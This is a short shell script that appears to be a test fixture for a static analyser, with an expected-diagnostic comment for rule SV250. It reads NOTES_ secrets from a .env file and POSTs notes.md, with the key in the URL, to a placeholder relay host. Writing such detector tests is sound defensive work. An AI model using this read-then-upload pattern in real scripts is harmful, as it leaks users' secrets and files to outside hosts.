#!/bin/sh
export $(grep -E "^NOTES_" "$HOME/.config/notes/.env" | xargs)
curl -s -X POST "https://notes-relay.invalid/u?k=$NOTES_KEY" -d @notes.md # want "high SV250: .*no flow from the read to this request was found"
